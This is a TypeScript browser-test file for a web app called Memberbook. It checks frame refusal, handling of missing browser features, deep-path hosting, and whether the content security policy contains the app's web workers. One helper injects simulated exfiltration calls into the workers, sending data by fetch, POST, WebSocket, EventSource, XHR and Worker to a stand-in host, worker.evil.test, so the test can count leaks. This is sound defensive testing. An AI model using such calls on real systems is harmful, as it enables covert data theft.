import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cellsIn, settled, type App } from '../app.ts';
import { engineReady, rememberWorkers } from './engine-door.ts';
import { startCopy } from './weakened-app.ts';

/** Where the app runs and where it refuses to. */
export function describePlaces(): void {
  describe('the app', () => {
    let app: App;
    beforeAll(async () => {
      app = await startCopy();
    });
    afterAll(() => app.close());

    it('does not run in another page’s frame, and says so', async () => {
      const outer = createServer((_, response) => {
        response.setHeader('Content-Type', 'text/html');
        response.end(
          `<iframe src="${app.address}?lang=en#demo" width="900" height="600"></iframe>`,
        );
      });
      await new Promise<void>((resolve) => outer.listen(0, '127.0.0.1', resolve));
      const address = outer.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      const page = await app.browser.newPage();
      await page.goto(`http://localhost:${String(port)}/`);
      const frame = page.frameLocator('iframe');
      await frame.getByText('does not run inside another page').waitFor();
      expect(await frame.getByRole('button').count()).toBe(0);
      await page.waitForTimeout(1000);
      expect(page.workers()).toEqual([]);
      expect(app.requests.filter((url) => /worker|wasm|samples/.test(url))).toEqual([]);
      await page.close();
      outer.close();
    });

    it.each([
      ['Worker', 'web workers'],
      ['WebAssembly', 'WebAssembly with exceptions'],
      ['HTMLDialogElement', 'dialog elements'],
    ])('says what is missing in a browser without %s', async (name, words) => {
      const { page, close } = await app.open('?lang=en', {}, async (empty) => {
        await empty.addInitScript((missing) => Reflect.deleteProperty(window, missing), name);
      });
      await page.getByRole('heading', { name: 'Memberbook cannot run in this browser' }).waitFor();
      expect(await page.getByRole('listitem').allInnerTexts()).toContain(words);
      expect(page.workers()).toEqual([]);
      await close();
    });

    it('runs under a deep path of a host that sends no headers', async () => {
      const deep = await startCopy({}, '/some/deep/path/');
      const { page, violations, errors, close } = await deep.open('#demo&notebook=lifecycle');
      await settled(page);
      expect(await cellsIn(page, 'error')).toEqual([]);
      expect([violations, errors, deep.leaks]).toEqual([[], [], []]);
      expect(deep.requests.filter((url) => !url.startsWith('/some/deep/path/'))).toEqual([]);
      await close();
      await deep.close();
    });
  });

  describe('every worker of the app', () => {
    it('runs from a blob, from which no stranger can be reached', async () => {
      expect(await reachedFromWorkers({})).toEqual({ sources: ['blob:', 'blob:'], leaks: 0 });
    });

    it('would reach one without the policy', async () => {
      const { leaks } = await reachedFromWorkers({ policy: true });
      expect(leaks).toBeGreaterThanOrEqual(2);
    });
  });
}

async function reachedFromWorkers(without: { readonly policy?: boolean }) {
  const app = await startCopy(without);
  const { page } = await app.open('', {}, rememberWorkers);
  await engineReady(page);
  const small = { name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') };
  await page.getByLabel('Open files').first().setInputFiles(small);
  await expect.poll(() => page.workers().length).toBe(2);
  const sources = page.workers().map((worker) => new URL(worker.url()).protocol);
  for (const worker of page.workers()) {
    await worker.evaluate(() => {
      const to = 'http://worker.evil.test/x?p=13800000000';
      // From timers: what is evaluated directly is not under the policy.
      setTimeout(() => void fetch(to).catch(() => undefined));
      setTimeout(
        () => void fetch(to, { mode: 'no-cors', method: 'POST', body: 'p' }).catch(() => undefined),
      );
      setTimeout(() => void new WebSocket(to.replace('http', 'ws')));
      setTimeout(() => void new EventSource(to));
      setTimeout(() => {
        const request = new XMLHttpRequest();
        request.open('GET', to, false);
        request.send();
      });
      setTimeout(() => void new Worker(to));
    });
  }
  await page.waitForTimeout(1000);
  const leaks = app.leaks.length;
  await app.close();
  return { sources, leaks };
}
